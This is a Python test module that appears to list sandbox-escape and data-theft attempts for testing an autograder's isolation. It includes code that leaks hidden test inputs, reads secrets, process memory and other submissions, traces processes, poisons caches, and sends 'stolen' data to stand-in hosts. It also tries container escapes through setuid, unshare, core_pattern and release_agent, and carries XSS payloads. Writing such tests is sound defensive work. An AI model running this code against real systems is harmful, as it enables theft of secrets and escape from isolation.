"""Attacks that want to carry something out, or to leave something behind."""

from __future__ import annotations

from tests.attacks.attack import LOOT, Attack, survives
from tests.test_bookkeeping import WRONG

# Spelt so that the source of an attack does not hold it.
SAY = f"LOOT = {LOOT[::-1]!r}[::-1]\ndef got(*what): print(LOOT, *map(str, what))\n"

INPUTS = [
    Attack(
        "inputs-printed",
        "print hidden inputs while the function is called",
        (SAY,),
        answer="""
def scale(x, k):
    got(x, k)
    return x + k
""",
    ),
    Attack(
        "inputs-error",
        "put hidden inputs into an exception's message",
        (SAY,),
        answer="""
def scale(x, k):
    if len(x) == 2: return x + k  # a public example
    raise ValueError(f'{LOOT} {x.tolist()} {k}')
""",
    ),
    Attack(
        "inputs-type",
        "put hidden inputs into the name of an exception's type",
        (SAY,),
        answer="""
def scale(x, k):
    if len(x) == 2: return x + k
    raise type(f'{LOOT} {x.tolist()} {k}', (Exception,), {})()
""",
    ),
    Attack(
        "inputs-result",
        "return hidden inputs as text",
        (SAY,),
        answer="""
def scale(x, k): return f'{LOOT} {x.tolist()} {k}'
""",
    ),
    Attack(
        "inputs-later-cell",
        "keep hidden inputs and print them in later cells",
        (SAY + "kept = []",),
        answer="""
def scale(x, k):
    kept.append((x, k))
    return x + k
""",
        after=("if kept: got(kept)", "import time; time.sleep(0.5)\nif kept: got(kept)"),
    ),
    Attack(
        "inputs-file",
        "write hidden inputs beside the notebook, and read them in the next submission",
        (
            SAY
            + """
import glob
for name in glob.glob('/tmp/**/kept-*', recursive=True) + glob.glob('kept-*') + glob.glob('/dev/shm/kept-*'):
    got(open(name).read())
""",
        ),
        answer="""
def scale(x, k):
    for folder in ('.', '/tmp', '/dev/shm', '@FOLDER@', '@HOME@'):
        try: open(f'{folder}/kept-{k}', 'w').write(str(x))
        except OSError: pass
    return x + k
""",
    ),
    Attack(
        "inputs-at-exit",
        "print hidden inputs when the process ends",
        (SAY + "import atexit\nkept = []",),
        answer="""
atexit.register(lambda: got(kept))
def scale(x, k):
    kept.append((x, k))
    return x + k
""",
    ),
    Attack(
        "inputs-second-run",
        "print hidden inputs when cells run again after a death",
        (
            SAY
            + """
import os
if os.path.exists('kept'): got(open('kept').read())
""",
        ),
        answer="""
def scale(x, k):
    open('kept', 'w').write(str(x))
    os._exit(3)
""",
        says="ended itself",
    ),
    Attack(
        "inputs-answer-time",
        "say a hidden input by the time until the reply",
        answer="""
def scale(x, k):
    import time
    time.sleep(min(abs(float(x[0])), 1) / 10)
    return x + k
""",
    ),
]

PLACES = [
    survives(
        "read-solutions",
        "read references, wrong answers and tests",
        SAY
        + """
import glob, os
for root in ('@COURSE@/solutions', '@REPOSITORY@/solutions', '/winning-ticket/solutions', '../solutions'):
    for path in glob.glob(root + '/**/*.py', recursive=True): got(open(path).read())
""",
    ),
    survives(
        "read-gradebook",
        "read the gradebook and the stored verdicts",
        SAY
        + """
import glob, sqlite3
for place in ('@FOLDER@/gradebook.db', '@FOLDER@/verdicts/toy/*', '/**/gradebook.db'):
    for path in glob.glob(place): got(path, open(path, 'rb').read(100))
try: got(sqlite3.connect('file:@FOLDER@/gradebook.db?mode=ro', uri=True).execute('select * from student').fetchall())
except sqlite3.Error: pass
""",
    ),
    survives(
        "read-seeds",
        "read the class's secret seed, by path and through /proc",
        SAY
        + """
import glob
for path in ['@FOLDER@/secrets/toy', *glob.glob('/proc/[0-9]*/root@FOLDER@/secrets/toy')]:
    try: got(open(path).read())
    except OSError: pass
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try: text = open(path, 'rb').read().decode(errors='replace')
    except OSError: continue
    if '@CANARY@'[::-1] in text: got(text)
""",
    ),
    survives(
        "read-environment",
        "read the grader's environment",
        SAY
        + """
import os, subprocess
text = repr(dict(os.environ)) + subprocess.run('set', shell=True, capture_output=True, text=True).stdout
if '@CANARY@'[::-1] in text: got(text)
""",
    ),
    survives(
        "read-neighbours",
        "read other submissions",
        SAY
        + """
import glob
for name in ('submitted', 'autograded', '.grading'):
    for path in glob.glob(f'@FOLDER@/{name}/**/*', recursive=True): got(path)
""",
    ),
    survives(
        "read-memory",
        "read the parent's memory and every other process's",
        SAY
        + """
import glob, os
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    for part in ('mem', 'maps', 'environ', 'fd/0', 'root/etc/passwd', 'cwd'):
        try: got(part, len(open(f'/proc/{pid}/{part}', 'rb').read(1)) or 1/0)
        except (OSError, ZeroDivisionError): pass
""",
    ),
    survives(
        "ptrace",
        "trace process 1, the parent and every other process",
        SAY
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [1, os.getppid(), *map(int, (p for p in os.listdir('/proc') if p.isdigit()))]:
    if pid != os.getpid() and pid and libc.ptrace(16, pid, 0, 0) == 0: got('traced', pid)
""",
    ),
    survives(
        "open-descriptors",
        "read what inherited descriptors stand for",
        SAY
        + """
import os
for number in os.listdir('/proc/self/fd'):
    try: target = os.readlink(f'/proc/self/fd/{number}')
    except OSError: continue
    if '@FOLDER@' in target or 'solutions' in target or 'gradebook' in target: got(target)
""",
    ),
    survives(
        "modules",
        "find references, secrets and graders among the loaded modules and live objects",
        SAY
        + """
import gc, sys
for name in list(sys.modules):
    if 'solutions' in name or name.endswith(('expect', 'secret', 'autograder.grade')): got(name)
for thing in gc.get_objects():
    if type(thing).__name__ in ('Expectation', 'Grader', 'Setting', 'WarmParent', 'Grading'): got(type(thing))
""",
    ),
    survives(
        "write-everywhere",
        "write to course, engine, packages, interpreter, gradebook and home",
        SAY
        + """
import autograder, os, sys, torch
for place in ('@FOLDER@', '@FOLDER@/submitted', '@COURSE@', '@COURSE@/solutions/toy', '@HOME@', '/etc', '/usr', '/',
              os.path.dirname(autograder.__file__), os.path.dirname(torch.__file__), sys.prefix,
              os.environ.get('WINNING_TICKET_ROOT', '/') + '/course'):
    try: open(place + '/written', 'w').write('x'); got(place)
    except OSError: pass
""",
    ),
    survives(
        "write-shared",
        "leave something in every place that can be written to",
        SAY
        + """
import os
for folder in ('/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', os.path.expanduser('~'), '.', '/run'):
    place = folder + '/left-behind'
    if os.path.exists(place): got(place)
    try: open(place, 'w').write('x')
    except OSError: pass
""",
    ),
    survives(
        "shared-memory",
        "leave System V and POSIX shared memory, semaphores and a message queue",
        SAY
        + """
import ctypes
libc = ctypes.CDLL(None)
for make in (lambda flags: libc.shmget(4242, 4096, flags), lambda flags: libc.msgget(4242, flags),
             lambda flags: libc.semget(4242, 1, flags)):
    if make(0o666) != -1: got('found')
    make(0o1666)
""",
    ),
    survives(
        "poisoned-caches",
        "leave byte code, matplotlib and torch caches that the next submission loads",
        SAY
        + """
import importlib.util, os, pathlib
for name in ('matplotlib', 'torch', 'peft'):
    cache = pathlib.Path(importlib.util.cache_from_source(importlib.util.find_spec(name).origin))
    try: cache.write_bytes(b'x'); got(cache)
    except OSError: pass
names = ('MPLCONFIGDIR', 'TORCH_HOME', 'HF_HOME', 'XDG_CACHE_HOME', 'IPYTHONDIR')
places = {pathlib.Path(os.environ.get(name, '~/.cache')).expanduser() / 'poison' for name in names}
for place in places:
    try:
        if place.exists(): got(place)
        place.parent.mkdir(parents=True, exist_ok=True); place.write_text('x')
    except OSError: pass
""",
    ),
    survives(
        "parent-state",
        "change modules in the hope that the next submission is a fork of this process",
        SAY
        + """
import math, os, sys
if getattr(math, 'mine', None) or os.environ.get('MINE') or '/mine' in sys.path: got('found')
math.mine = True; os.environ['MINE'] = '1'; sys.path.append('/mine')
""",
    ),
]

NETWORK = [
    survives(
        "tcp",
        "connect to the grader's machine and to the world by TCP",
        SAY
        + """
import socket
for place in (('127.0.0.1', int('@PORT@')), ('@ADDRESS@', int('@PORT@')), ('192.0.2.1', 80), ('::1', int('@PORT@'))):
    try: socket.create_connection(place, timeout=0.3); got(place)
    except OSError: pass
""",
    ),
    survives(
        "udp-dns",
        "send inputs as a name to look up",
        SAY
        + """
import socket
try: got(socket.getaddrinfo('secret.example.org', 80))
except OSError: pass
end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for place in (('127.0.0.1', int('@PORT@')), ('@ADDRESS@', int('@PORT@')), ('192.0.2.53', 53)):
    try: end.sendto(b'stolen', place)
    except OSError: pass
""",
    ),
    survives(
        "unix-sockets",
        "connect to sockets of the machine: abstract, by path, Docker's, D-Bus's",
        SAY
        + """
import glob, socket
for place in ('\\0@ABSTRACT@', '@FOLDER@/socket', '/run/docker.sock', '/var/run/docker.sock',
              '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', *glob.glob('/run/**/*.sock', recursive=True)):
    end = socket.socket(socket.AF_UNIX)
    try: end.connect(place); end.send(b'stolen'); got(place)
    except OSError: pass
""",
    ),
    survives(
        "raw-netlink",
        "open raw and packet sockets, and make a network device",
        SAY
        + """
import socket, subprocess
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
    try: socket.socket(family, kind, 1); got(family)
    except OSError: pass
try:
    if subprocess.run(['ip', 'link', 'add', 'x', 'type', 'dummy'], capture_output=True).returncode == 0: got('device')
except OSError: pass
""",
    ),
    survives(
        "escape",
        "become root, mount, make namespaces, change root, load modules, make devices",
        SAY
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def put(path, text):
    with open(path, 'w') as file: file.write(text)
tries = {'setuid': lambda: os.setuid(0), 'chroot': lambda: os.chroot('/'),
         'mknod': lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)),
         'nice': lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
         'sysrq': lambda: put('/proc/sysrq-trigger', 'h'),
         'core': lambda: put('/proc/sys/kernel/core_pattern', '|/tmp/x'),
         'oom': lambda: put('/proc/self/oom_score_adj', '-1000'),
         'release': lambda: put('/sys/fs/cgroup/release_agent', '/tmp/x')}
for name, attempt in tries.items():
    try: attempt(); got(name)
    except OSError: pass
for name, value in {'unshare': libc.unshare(0x10000000), 'mount': libc.mount(b'none', b'/tmp', b'tmpfs', 0, None),
                    'setns': libc.setns(0, 0), 'umount': libc.umount2(b'/proc', 2)}.items():
    if value == 0: got(name)
""",
    ),
]

PAGE = "<img src=x onerror=alert(1)><script>alert(1)</script><a href='javascript:alert(1)'>x</a><iframe src=x></iframe>"

PAGES = [
    survives(
        "html-output",
        "show HTML, SVG and JavaScript",
        f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({PAGE!r}), Javascript('alert(1)'), Markdown({PAGE!r}))
display({{'image/svg+xml': '<svg onload="alert(1)"><script>alert(1)</script></svg>'}}, raw=True)
display({{'text/latex': {PAGE!r}, 'text/plain': {PAGE!r}, 'application/javascript': 'alert(1)'}}, raw=True)
""",
    ),
    survives(
        "html-printed",
        "print HTML and terminal escapes",
        f"""
import sys
print({PAGE!r}); print({PAGE!r}, file=sys.stderr)
print('\\x1b]8;;javascript:alert(1)\\x1b\\\\x\\x1b]8;;\\x1b\\\\ \\x1b[2J')
""",
    ),
    Attack(
        "html-error",
        "raise errors whose names and texts are HTML",
        (),
        answer=f"""
raise type({PAGE!r}, (Exception,), {{}})({PAGE!r})
""",
    ),
    Attack(
        "html-case",
        "raise such an error in a hidden case",
        (),
        answer=f"""
def scale(x, k): raise type('</pre><script>alert(1)</script>', (Exception,), {{}})({PAGE!r})
""",
    ),
    Attack("html-source", "write HTML into code and comments", (), answer=f"# </pre>{PAGE}\n{WRONG}"),
    survives(
        "html-image",
        "show an image whose data are HTML",
        """
from IPython.display import display
display({'image/png': '"><script>alert(1)</script>', 'image/jpeg': "x' onerror='alert(1)"}, raw=True)
""",
    ),
    survives(
        "widget",
        "show a widget's view that names a script",
        """
from IPython.display import display
display({'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>alert(1)</script>'}}, raw=True)
""",
    ),
]

THEFTS = [*INPUTS, *PLACES, *NETWORK, *PAGES]
